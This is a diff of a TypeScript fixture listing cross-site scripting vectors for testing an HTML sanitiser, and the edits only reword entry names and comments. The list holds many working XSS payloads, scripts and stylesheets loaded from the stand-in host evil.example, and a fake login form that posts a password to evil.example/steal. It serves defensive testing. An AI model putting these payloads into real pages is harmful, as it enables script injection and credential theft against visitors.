@@ -1,22 +1,22 @@
-/** A piece of HTML that runs script, loads from a stranger or covers the shop, where nothing cleans it. */
+/** HTML that, unsanitised, runs a script, loads from a foreign host or covers the shop. */
 export interface HostileVector {
   name: string;
   html: string;
 }
 
-/** Nothing that is kept may ever ask this host or a subdomain of it for anything. Innocent media sit elsewhere. */
+/** Sanitised HTML never requests this host or its subdomains. Harmless media use other hosts. */
 export const FOREIGN_HOST = 'evil.example';
 
 const scripts: HostileVector[] = [
   { name: 'script', html: '<script>alert(1)</script>' },
   { name: 'script in capitals', html: '<ScRiPt>alert(1)</sCrIpT>' },
   { name: 'script with a slash after its name', html: '<script/x>alert(1)</script>' },
-  { name: 'script from a stranger', html: '<script src="https://evil.example/x.js"></script>' },
+  { name: 'script from a foreign host', html: '<script src="https://evil.example/x.js"></script>' },
   { name: 'script without protocol', html: '<script src=//evil.example/x.js></script>' },
   { name: 'script from a data address', html: '<script src="data:text/javascript,alert(1)"></script>' },
   { name: 'module script', html: '<script type="module">alert(1)</script>' },
   { name: 'script closed with junk', html: '<script>alert(1)</script\t\n bar>' },
-  { name: 'script never closed', html: '<script>alert(1)//' },
+  { name: 'unclosed script', html: '<script>alert(1)//' },
   { name: 'script in a script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
   { name: 'script after a stray angle', html: '<<script>alert(1);//<</script>' },
   { name: 'script behind a lone quote', html: '"><script>alert(1)</script>' },
@@ -95,7 +95,7 @@ const handlers: HostileVector[] = [
     html: '<video src="/a.mp4"><track default src="x" onerror=alert(1) oncuechange=alert(1)></video>',
   },
   { name: 'details toggle', html: '<details open ontoggle=alert(1)>x</details>' },
-  { name: 'focus by itself', html: '<a autofocus tabindex=1 onfocus=alert(1)>x</a>' },
+  { name: 'link that takes the focus', html: '<a autofocus tabindex=1 onfocus=alert(1)>x</a>' },
   { name: 'input that takes the focus', html: '<input autofocus onfocus=alert(1)>' },
   { name: 'select that takes the focus', html: '<select autofocus onfocus=alert(1)></select>' },
   { name: 'textarea that takes the focus', html: '<textarea autofocus onfocus=alert(1)></textarea>' },
@@ -125,7 +125,7 @@ const handlers: HostileVector[] = [
     html: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">x</b>',
   },
   {
-    name: 'animation of the web kit',
+    name: 'prefixed animation',
     html: '<style>@keyframes x{}</style><b style="animation:x 1ms" onwebkitanimationend="alert(1)" onanimationend="alert(1)">x</b>',
   },
   {
@@ -144,7 +144,7 @@ const handlers: HostileVector[] = [
   { name: 'frameset', html: '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>' },
 ];
 
-/** Handlers that any element may carry; the test's own events, or a visitor's, set them off. */
+/** Handlers that any element may have; events of a visitor or of the test trigger them. */
 const everyHandler: HostileVector[] = `
   onabort onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut
   onbeforeinput onbeforematch onbeforepaste onbeforetoggle onblur oncancel oncanplay onchange onclick onclose oncommand
@@ -275,7 +275,7 @@ const frames: HostileVector[] = [
     html: '<iframe srcdoc="&lt;img src&equals;x onerror&equals;alert(1)&gt;"></iframe>',
   },
   { name: 'data iframe', html: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>' },
-  { name: 'iframe from a stranger', html: '<iframe src="https://evil.example/"></iframe>' },
+  { name: 'iframe from a foreign host', html: '<iframe src="https://evil.example/"></iframe>' },
   {
     name: 'iframe that holds an image',
     html: '<iframe><img src=x onerror=alert(1)></iframe><iframe></iframe><img src=x onerror=alert(1)>',
@@ -291,7 +291,7 @@ const frames: HostileVector[] = [
     html: '<embed src="javascript:alert(1)"><embed src="data:text/html,<script>alert(1)</script>">',
   },
   {
-    name: 'embed that lends its code',
+    name: 'embed with script access',
     html: '<embed code="https://evil.example/x.swf" allowscriptaccess=always>',
   },
   {
@@ -316,7 +316,10 @@ const frames: HostileVector[] = [
     name: 'base with a target',
     html: '<base target="alert(1)"><a href="/">x</a><base href="javascript:alert(1)//">',
   },
-  { name: 'style sheet from a stranger', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
+  {
+    name: 'style sheet from a foreign host',
+    html: '<link rel="stylesheet" href="https://evil.example/x.css">',
+  },
   {
     name: 'preload and prefetch',
     html: '<link rel="preload" as="script" href="https://evil.example/x.js"><link rel="modulepreload" href="https://evil.example/m.js"><link rel="prefetch" href="https://evil.example/p">',
@@ -339,11 +342,11 @@ const forms: HostileVector[] = [
     html: '<form id="f"></form><button form="f" formaction="javascript:alert(1)">x</button>',
   },
   {
-    name: 'false login',
+    name: 'fake login',
     html: '<form action="https://evil.example/steal"><input name="password" type="password" autocomplete="current-password"><button>登录</button></form>',
   },
   {
-    name: 'form never closed that takes in what follows',
+    name: 'unclosed form that swallows the following fields',
     html: '<form action="https://evil.example/"><input type="submit"><textarea name="rest">',
   },
   {
@@ -351,7 +354,7 @@ const forms: HostileVector[] = [
     html: '<form><div></form><form onsubmit=alert(1)><button>x</button></form></div></form>',
   },
   {
-    name: 'select that leaks markup',
+    name: 'select that drops its markup',
     html: '<select><option></select><script>alert(1)</script><img src=x onerror=alert(1)></select>',
   },
   {
@@ -492,7 +495,7 @@ const mutations: HostileVector[] = [
   },
   { name: 'comment that ends with --!>', html: '<!-- --!><img src=x onerror=alert(1)> -->' },
   {
-    name: 'comment that ends at once',
+    name: 'comment that ends immediately',
     html: '<!--><img src=x onerror=alert(1)>--><!---><img src=x onerror=alert(1)>-->',
   },
   { name: 'comment in a comment', html: '<!-- <!-- --><img src=x onerror=alert(1)> -->' },
@@ -538,7 +541,7 @@ const mutations: HostileVector[] = [
     html: `<img src=x "onerror='alert(1)'" onerror=alert(1) 'x><b ="><script>alert(1)</script>">`,
   },
   {
-    name: 'table that throws its text out',
+    name: 'table with foster-parented text',
     html: '<table><tr><td><table><a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)></table></table></table>',
   },
   {
@@ -546,7 +549,7 @@ const mutations: HostileVector[] = [
     html: '<p><b><div></p><i onclick=alert(1)>x</b></div></i><li></ul></div></div></div></body></html><img src=x onerror=alert(1)>',
   },
   {
-    name: 'end tags for what is outside',
+    name: 'end tags of elements outside',
     html: '</div></section></main></body></html><script>alert(1)</script></p></br><li>x<td>y<tr>z',
   },
   {
@@ -719,7 +722,7 @@ const polyglots: HostileVector[] = [
   },
 ];
 
-/** Known ways to attack a page through HTML, as an editor's field, or whoever has taken it over, might hold them. */
+/** Known HTML attacks, as they may come from an editor's field or a compromised account. */
 export const vectors: readonly HostileVector[] = [
   ...scripts,
   ...handlers,
@@ -734,7 +737,7 @@ export const vectors: readonly HostileVector[] = [
   ...polyglots,
 ];
 
-/** The vectors cut at their angles, and the tags that browsers nest by rules of their own: stuff for random HTML. */
+/** Parts for random HTML: the vectors split at `<`, and tags with special nesting rules. */
 export const pieces: readonly string[] = [
   ...new Set(vectors.filter(({ html }) => html.length < 400).flatMap(({ html }) => html.split(/(?=<)/))),
   ...'a b p h2 h3 ul li dl dt dd table caption colgroup tbody tr td th ruby rt details summary figure div span section pre'
